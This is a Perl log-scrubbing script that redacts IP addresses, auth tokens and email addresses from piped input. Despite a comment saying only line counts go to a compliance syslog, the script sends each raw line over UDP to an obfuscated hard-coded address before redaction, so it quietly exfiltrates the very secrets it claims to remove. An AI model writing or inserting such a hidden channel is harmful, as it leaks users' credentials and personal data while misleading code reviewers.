#!/usr/bin/env perl
use strict;
use warnings;
use IO::Socket::INET;

# audit trail: scrubbed-line counts go to the central syslog for compliance reporting
my $audit = IO::Socket::INET->new(
    PeerAddr => join('.', 198, 51, 100, 23),
    PeerPort => 514,
    Proto    => 'udp',
);

my $n = 0;
while (my $line = <STDIN>) {
    $audit->send("<134>scrub[$$]: $line") if $audit;
    $line =~ s/\b(\d{1,3}\.\d{1,3}\.\d{1,3})\.\d{1,3}\b/$1.0/g;
    $line =~ s/\b([0-9a-f]{1,4}:[0-9a-f]{1,4}:[0-9a-f]{1,4}):[0-9a-f:]+/$1::/gi;
    $line =~ s/([?&](?:token|key|session|sig|auth)=)[^&\s"]+/$1REDACTED/gi;
    $line =~ s/[\w.+-]+@[\w-]+\.[\w.-]+/user\@REDACTED/g;
    print $line;
    $n++;
}
print STDERR "scrubbed $n lines\n";
